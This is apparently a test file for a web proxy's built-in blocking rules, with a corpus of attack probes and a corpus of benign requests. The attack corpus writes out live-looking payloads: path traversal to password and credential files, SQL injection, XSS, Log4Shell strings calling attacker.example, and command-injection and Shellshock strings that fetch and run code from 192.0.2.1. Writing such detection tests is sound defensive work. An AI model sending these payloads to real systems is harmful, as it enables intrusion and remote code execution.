/**
 * The built-in rule set against two corpora: real-world probe requests (as they appear in
 * access logs of any public server) must each hit the expected rule, and ordinary requests of a
 * blog, an SPA with its API, and search boxes must hit nothing. A rule change that breaks
 * either is a regression: a missed attack, or a false positive that blocks real users.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { GateRequest } from '../../proxy/index.ts';
import { normalizePath } from '../../proxy/normalize-path.ts';
import { compileRequestRules } from './compile.ts';
import { loadBuiltinRules } from './rule-files.ts';
import { gateRequest } from '../../../test/support/gate-request.ts';

/** A GateRequest as the proxy builds one (createRequestContext), for a request target. */
function request(target: string, headers: Record<string, string> = {}, method = 'GET'): GateRequest {
  const q = target.indexOf('?');
  const rawPath = q === -1 ? target : target.slice(0, q);
  const path = normalizePath(rawPath);
  // The proxy answers 400 before the gate for these; a corpus entry must be a request that gets there.
  assert.ok(path !== null, `${target}: the proxy would refuse this path`);
  return gateRequest(
    { clientIp: '198.51.100.7', method, path, rawPath, query: q === -1 ? '' : target.slice(q + 1), host: 'www.example.com', siteName: 'www.example.com' },
    { host: 'www.example.com', 'user-agent': BROWSER, accept: '*/*', ...headers },
  );
}

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36';

/** [request target, expected rule id, extra headers?, method?] */
type Attack = [string, string, Record<string, string>?, string?];

const ATTACKS: Attack[] = [
  // WordPress
  ['/wp-login.php', 'wordpress-probe'],
  ['/xmlrpc.php', 'wordpress-probe', {}, 'POST'],
  ['/wp-admin/install.php?step=1', 'wordpress-probe'],
  ['/wordpress/wp-admin/setup-config.php', 'wordpress-probe'],
  ['/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 'wordpress-probe'],
  ['/blog/wp-includes/wlwmanifest.xml', 'wordpress-probe'],
  ['/wp-json/wp/v2/users', 'wordpress-probe'],
  ['/WP-LOGIN.PHP', 'wordpress-probe'],
  ['/wp-login.php;jsessionid=1', 'wordpress-probe'],
  // Dotfiles and version control
  ['/.env', 'dotfile-probe'],
  ['/api/.env', 'dotfile-probe'],
  ['/.env.production', 'dotfile-probe'],
  ['/%2eenv', 'dotfile-probe'],
  ['/.aws/credentials', 'dotfile-probe'],
  ['/.DS_Store', 'dotfile-probe'],
  ['/.vscode/sftp.json', 'dotfile-probe'],
  ['/.ssh/id_rsa', 'dotfile-probe'],
  ['/.git/config', 'vcs-probe'],
  ['/.git/HEAD', 'vcs-probe'],
  ['/static/.git/logs/HEAD', 'vcs-probe'],
  ['/.svn/wc.db', 'vcs-probe'],
  ['/.hg/hgrc', 'vcs-probe'],
  // PHP tools, CMSes
  ['/phpmyadmin/index.php', 'php-admin-probe'],
  ['/phpMyAdmin-5.2.1/', 'php-admin-probe'],
  ['/pma/', 'php-admin-probe'],
  ['/adminer.php', 'php-admin-probe'],
  ['/phpinfo.php', 'php-admin-probe'],
  ['/bitrix/admin/index.php', 'bitrix-probe'],
  ['/bitrix/tools/composite_data.php', 'bitrix-probe'],
  ['/administrator/manifests/files/joomla.xml', 'joomla-probe'],
  ['/core/CHANGELOG.txt', 'drupal-probe'],
  ['/magento_version', 'magento-probe'],
  ['/typo3conf/localconf.php', 'typo3-probe'],
  // Backups and configuration
  ['/backup.zip', 'backup-file-probe'],
  ['/www.tar.gz', 'backup-file-probe'],
  ['/dump.sql', 'backup-file-probe'],
  ['/db/site.sql.gz', 'backup-file-probe'],
  ['/index.php.save', 'backup-file-probe'],
  ['/.index.php.swp', 'backup-file-probe'],
  ['/config.php.bak', 'config-file-probe'],
  ['/wp-config.php~', 'config-file-probe'],
  ['/wp-config.php.old', 'config-file-probe'],
  ['/web.config', 'config-file-probe'],
  ['/appsettings.Production.json', 'config-file-probe'],
  ['/docker-compose.yml', 'config-file-probe'],
  ['/WEB-INF/web.xml', 'config-file-probe'],
  ['/server-status', 'config-file-probe'],
  ['/terraform.tfstate', 'config-file-probe'],
  ['/storage/logs/laravel.log', 'config-file-probe'],
  // Java
  ['/actuator/env', 'spring-actuator-probe'],
  ['/actuator/heapdump', 'spring-actuator-probe'],
  ['/api/actuator/gateway/routes', 'spring-actuator-probe'],
  ['/jolokia/list', 'spring-actuator-probe'],
  ['/manager/html', 'java-admin-probe'],
  ['/jmx-console/HtmlAdaptor?action=inspectMBean', 'java-admin-probe'],
  // Shells, CGI, devices
  ['/cgi-bin/test.cgi', 'shell-probe'],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'shell-probe'],
  ['/shell.php?cmd=id', 'shell-probe'],
  ['/_ignition/execute-solution', 'shell-probe', {}, 'POST'],
  ['/boaform/admin/formLogin', 'device-probe', {}, 'POST'],
  ['/HNAP1/', 'device-probe'],
  ['/GponForm/diag_Form?images/', 'device-probe', {}, 'POST'],
  ['/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1', 'device-probe'],
  ['/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', 'device-probe'],
  // Traversal, in every encoding
  ['/static/..%2f..%2f..%2fetc/passwd', 'path-traversal'],
  ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 'path-traversal'],
  ['/icons/x?f=.%%32%65/.%%32%65/.%%32%65/etc/passwd', 'path-traversal'],
  ['/images/%2e%2e/%2e%2e/%2e%2e/etc/shadow', 'path-traversal'],
  ['/?file=../../../../etc/passwd', 'path-traversal'],
  ['/download?path=%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'path-traversal'],
  ['/index.php?page=%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'path-traversal'],
  ['/view?file=..\\..\\..\\windows\\win.ini', 'path-traversal'],
  ['/?f=....//....//....//etc/passwd', 'path-traversal'],
  ['/?p=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini', 'path-traversal'],
  ['/?p=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd', 'path-traversal'],
  ['/?template=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts', 'path-traversal'],
  ['/?file=/proc/self/environ', 'path-traversal'],
  ['/?image=../../../etc/passwd%00.png', 'path-traversal'],
  ['/?url=file:///c:/windows/win.ini', 'path-traversal'],
  ['/?src=file://localhost/srv/app/config.yml', 'file-inclusion'],
  ['/?page=php://filter/convert.base64-encode/resource=index.php', 'php-injection'],
  ['/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', 'php-injection', {}, 'POST'],
  ['/?q=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E', 'php-injection'],
  // SQL injection
  ['/products?id=1%27%20OR%20%271%27%3D%271', 'sqli'],
  ['/item?id=1+UNION+SELECT+NULL,NULL,NULL--', 'sqli'],
  ['/item?id=-1+union+all+select+1,2,group_concat(table_name)+from+information_schema.tables--+-', 'sqli'],
  ['/search?q=1%27%20AND%20SLEEP(5)%23', 'sqli'],
  ['/login?user=admin%27--&pass=x', 'sqli'],
  ['/?id=1;DROP%20TABLE%20users', 'sqli'],
  ['/?id=1%20AND%201=1', 'sqli'],
  ['/?id=1/**/UNION/**/SELECT/**/1,2,3', 'sqli'],
  ['/?id=1+/*!50000UNION*/+/*!50000SELECT*/+1,2', 'sqli'],
  ['/?q=%27%20or%201=1%23', 'sqli'],
  ['/?id=(select*from(select(sleep(5)))a)', 'sqli'],
  ['/?id=1%27;waitfor%20delay%20%270:0:5%27--', 'sqli'],
  ['/?id=1%20and%20extractvalue(1,concat(0x7e,version()))', 'sqli'],
  ['/?id=1%27%20ORDER%20BY%203--%20-', 'sqli'],
  ['/?name=x%22%20or%20%22%22%3D%22', 'sqli'],
  ['/?id=%2527%2520or%25201%253D1--', 'sqli'],
  ['/?sort=name%27)%20or%20(%27a%27=%27a', 'sqli'],
  ['/api/items/1%20union%20select%20password%20from%20users', 'sqli'],
  ['/?id=1%20AND%201234=BENCHMARK(5000000,MD5(0x41))', 'sqli'],
  ['/?id=1%27||pg_sleep(5)--', 'sqli'],
  // Cross-site scripting
  ['/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
  ['/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 'xss'],
  ['/?q=%3Csvg%2Fonload%3Dalert(document.domain)%3E', 'xss'],
  ['/?redirect=javascript:alert(1)', 'xss'],
  ['/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'xss'],
  ['/?name=%27;alert(String.fromCharCode(88,83,83))//', 'xss'],
  ['/?q=%3Ciframe%20src%3D%2F%2Fevil.example%3E', 'xss'],
  ['/?q=%22%20onmouseover%3D%22alert(1)', 'xss'],
  ['/?url=java%0ascript:alert(1)', 'xss'],
  ['/?q=%3CBODY%20ONLOAD%3Dalert(1)%3E', 'xss'],
  ['/?q=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D', 'xss'],
  ['/?next=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'xss'],
  ['/?x=%27-alert(1)-%27', 'xss'],
  ['/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
  // Scanners by user agent
  ['/', 'scanner-user-agent', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'Mozilla/5.0 zgrab/0.x' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'gobuster/3.6' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'Fuzz Faster U Fool v2.1.0-dev' }],
  ['/', 'scanner-user-agent', { 'user-agent': 'Hello, world' }],
  // Code execution
  ['/', 'log4shell', { 'x-api-version': '${jndi:ldap://attacker.example/a}' }],
  ['/', 'log4shell', { 'user-agent': '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}' }],
  ['/', 'log4shell', { referer: '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}' }],
  ['/?x=${jndi:dns://attacker.example/a}', 'log4shell'],
  ['/$%7Bjndi:ldap://attacker.example/a%7D/', 'log4shell'],
  ['/cgi-bin/status', 'shell-probe', { 'user-agent': '() { :; }; echo; /bin/bash -c "cat /etc/passwd"' }],
  ['/', 'shellshock', { referer: '() { :;}; /bin/bash -c "wget http://192.0.2.1/x"' }],
  ['/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x.sh;sh+/tmp/x.sh', 'command-injection'],
  ['/ping?host=127.0.0.1%3Bcurl%20-s%20http%3A%2F%2F192.0.2.1%2Fa%7Csh', 'command-injection'],
  ['/?ip=%24(wget%20http://192.0.2.1/bot)', 'command-injection'],
  ['/index.action?redirect:%25%7B(%23a%3D1)%7D', 'java-injection'],
  ['/', 'java-injection', { 'content-type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" }],
  ['/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/', 'java-injection'],
  ['/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', 'java-injection'],
  ['/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', 'drupalgeddon'],
];

const BENIGN: [string, Record<string, string>?, string?][] = [
  // A blog
  ['/'],
  ['/blog/'],
  ['/blog/2024/05/hello-world'],
  ['/blog/2024/05/hello-world/?utm_source=newsletter&utm_medium=email&utm_campaign=may'],
  ['/tags/javascript'],
  ['/feed.xml'],
  ['/sitemap.xml'],
  ['/robots.txt'],
  ['/favicon.ico'],
  ['/about'],
  ['/posts/why-we-select-postgres-over-mysql'],
  ['/posts/union-pacific-railroad-history'],
  ["/posts/o'brien-and-sons"],
  ['/posts/2024/drop-table-tennis-rules'],
  ['/environment'],
  ['/envelope.svg'],
  ['/gitlab-vs-github'],
  ['/config'],
  ['/admin'],
  ['/wiki/C%2B%2B'],
  ['/wiki/Special:Search?search=cat'],
  // Search boxes
  ['/search?q=select+a+plan'],
  ['/search?q=o%27brien'],
  ['/search?q=%3C3'],
  ['/search?q=i+%3C3+you'],
  ['/search?q=1%3D1+puzzle'],
  ['/search?q=rock+%27n%27+roll'],
  ['/search?q=don%27t+stop+me+now'],
  ['/search?q=what+does+%22or%22+mean'],
  ['/search?q=javascript%3A+the+good+parts'],
  ['/search?q=a+%3C+b+and+c+%3E+d'],
  ['/search?q=C%23+and+F%23+tutorials'],
  ['/search?q=100%25+cotton'],
  ['/search?q=wait...%2Fwhat'],
  ['/search?q=the+european+union+select+committee'],
  ['/search?q=how+to+sleep+(8+hours)'],
  ['/search?q=user%27s+guide+-+chapter+1'],
  ['/search?q=%22salt+and+pepper%22'],
  ['/search?q=%22cats%22+or+%22dogs%22'],
  ['/search?q=email%40example.com'],
  ['/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E'],
  ['/search?q=caf%C3%A9+cr%C3%A8me'],
  ['/search?q=it%27s+1+or+2+days'],
  ['/search?q=rating+%3E%3D+4+and+price+%3C+100'],
  ['/search?q=tom+%26+jerry'],
  ['/search?q=SELECT+statement+tutorial'],
  ['/search?q=%24%7BHOME%7D'],
  ['/search?q=bash+%24%7Bvar%3A-default%7D'],
  ['/search?q=C%3A%5CUsers%5Cme'],
  ['/search?q=%2Fetc%2Fhosts+file'],
  ['/search?q=print(%27hello%27)'],
  ['/search?q=to+be+or+not+to+be'],
  ['/search?q=%27to+be%27+or+not+to+be'],
  ['/search?q=%3Cdiv%3E+vs+%3Cspan%3E'],
  ['/search?q=curl+https%3A%2F%2Fexample.com'],
  ['/search?q=50%2F50+odds'],
  ['/search?q=%22Be+yourself%22+--+Oscar+Wilde'],
  ['/search?q=%27Lights%27%3B+set+design'],
  ['/search?q=%3Cb%3Ebold%3C%2Fb%3E+and+%3Ca+href%3D%22%2Fx%22%3Elink%3C%2Fa%3E'],
  ['/search?q=1..10'],
  ['/search?q=rust+1..%3D10+range'],
  ['/items?range=5-10&callback=jQuery3600_1712345'],
  // An SPA and its API
  ['/assets/app.js?v=3'],
  ['/assets/index-4f3a2b1c.css'],
  ['/assets/logo.svg'],
  ['/static/js/main.8a3b2c1d.chunk.js'],
  ['/fonts/inter-var.woff2'],
  ['/images/hero@2x.png'],
  ['/manifest.webmanifest'],
  ['/service-worker.js'],
  ['/api/v1/users/42'],
  ['/api/v1/users?page=2&per_page=50&sort=-created_at'],
  ['/api/v1/search?filter=%7B%22status%22%3A%22active%22%2C%22color%22%3A%22%23ff0000%22%7D'],
  ['/api/v1/items?fields=id,name,price&include=author'],
  ['/graphql?query=%7Bviewer%7Blogin%7D%7D'],
  ['/api/v2/orders/2024-05-01..2024-05-31'],
  ['/compare/v1.2.0...v1.3.0'],
  ['/api/v1/files?path=%2Fdocuments%2Freport.pdf'],
  ['/oauth/callback?code=abc123&state=xyz'],
  ['/login?next=%2Fdashboard'],
  ['/api/v1/login', { 'content-type': 'application/json' }, 'POST'],
  ['/socket.io/?EIO=4&transport=polling&t=OabcDEF'],
  ['/api/v1/events?since=2024-01-01T00%3A00%3A00Z'],
  ['/shop/category/shoes?color=red&size=42'],
  ['/products/t-shirt?ref=homepage%2Bbanner'],
  ['/download/portcullis-1.0.0.tar.gz'],
  ['/files/report-2024.zip'],
  ['/user/profile/settings'],
  ['/_next/image?url=%2F_next%2Fstatic%2Fmedia%2Fhero.png&w=1080&q=75'],
  ['/_nuxt/entry.3f2a1b.js'],
  ['/api/datasources/proxy/1/api/v1/query_range?query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))%20by%20(status)%20%3E%200%20and%20on(instance)%20up%20%3D%3D%201&start=1715000000&end=1715003600&step=15'],
  ['/loki/api/v1/query_range?query=%7Bapp%3D%22web%22%7D%20%7C%3D%20%22error%22%20%7C%20json&limit=100'],
  ["/odata/Products?$filter=Price%20lt%2010%20and%20Name%20eq%20'Milk'%20or%20Name%20eq%20'Bread'&$orderby=Name%20desc&$top=20"],
  ['/graphql?query=%7Buser(id%3A%221%22)%7Bname%2Cemail%7D%7D&variables=%7B%7D'],
  ['/api/search?q=status%3Aactive%20AND%20age%3A%3E30&sort=name%20asc%2C%20date%20desc'],
  ['/api/v1/logs?grep=GET+%2Fapi%2Fusers+200&since=1h'],
  ['/track?e=click&props=%7B%22label%22%3A%22Don%27t+miss+out%22%2C%22x%22%3A1%7D'],
  // Well-known URIs (RFC 8615): never blocked
  ['/.well-known/acme-challenge/x'],
  ['/.well-known/acme-challenge/LoqXcYV8q5ONbJQxbmR7SCTNo3tiAXDfowyjxAjEuX0'],
  ['/.well-known/openid-configuration'],
  ['/.well-known/security.txt'],
  ['/.well-known/jwks.json'],
  ['/.well-known/apple-app-site-association'],
  ['/.well-known/assetlinks.json'],
  ['/.well-known/change-password'],
  // Health and metrics endpoints monitoring uses
  ['/actuator/health'],
  ['/actuator/info'],
  ['/actuator/prometheus'],
  ['/metrics'],
  ['/healthz'],
  // Ordinary clients and their headers
  ['/', { 'user-agent': 'curl/8.5.0' }],
  ['/', { 'user-agent': 'python-requests/2.31.0' }],
  ['/', { 'user-agent': 'Go-http-client/1.1' }],
  ['/', { 'user-agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
  ['/', { 'user-agent': 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' }],
  ['/', { 'user-agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1' }],
  ['/', { 'user-agent': 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0' }],
  ['/', { 'user-agent': 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)' }],
  ['/', { 'user-agent': 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)' }],
  ['/', { cookie: 'prefs={"theme":"dark","color":"#0b6bcb"}; session=abc', referer: 'https://www.example.com/search?q=o%27brien' }],
  ['/', { 'x-request-id': '${REQUEST_ID}', accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8' }],
];

const check = compileRequestRules({ builtin: true, logOnly: false, exclusions: [], custom: [] });

describe('built-in rules: the attack corpus', () => {
  it(`has at least 60 probes (${ATTACKS.length}) and covers every built-in rule`, () => {
    assert.ok(ATTACKS.length >= 60);
    const covered = new Set(ATTACKS.map((a) => a[1]));
    const missing = loadBuiltinRules().filter((r) => !covered.has(r.id)).map((r) => r.id);
    assert.deepEqual(missing, [], 'rules without an attack in the corpus');
  });

  it('every probe hits its rule', () => {
    const wrong: string[] = [];
    for (const [target, id, headers, method] of ATTACKS) {
      const hit = check(request(target, headers, method));
      if (hit?.id !== id) wrong.push(`${target} ${JSON.stringify(headers ?? {})}: expected ${id}, got ${hit?.id ?? 'nothing'}`);
      else assert.equal(hit.action, 'block');
    }
    assert.deepEqual(wrong, []);
  });
});

describe('built-in rules: the benign corpus', () => {
  it(`has at least 60 ordinary requests (${BENIGN.length}) and none matches`, () => {
    assert.ok(BENIGN.length >= 60);
    const hits: string[] = [];
    for (const [target, headers, method] of BENIGN) {
      const hit = check(request(target, headers, method));
      if (hit !== null) hits.push(`${target} ${JSON.stringify(headers ?? {})}: ${hit.id}`);
    }
    assert.deepEqual(hits, []);
  });

  it('no built-in path pattern can match under /.well-known/', () => {
    for (const rule of loadBuiltinRules()) {
      for (const p of rule.paths) assert.ok(!p.replace(/^\//, '').startsWith('.well-known'), `${rule.id}: ${p}`);
    }
    // Even with names probes use, below .well-known/ (a segment pattern anywhere still applies).
    assert.equal(check(request('/.well-known/acme-challenge/wp')), null);
  });
});
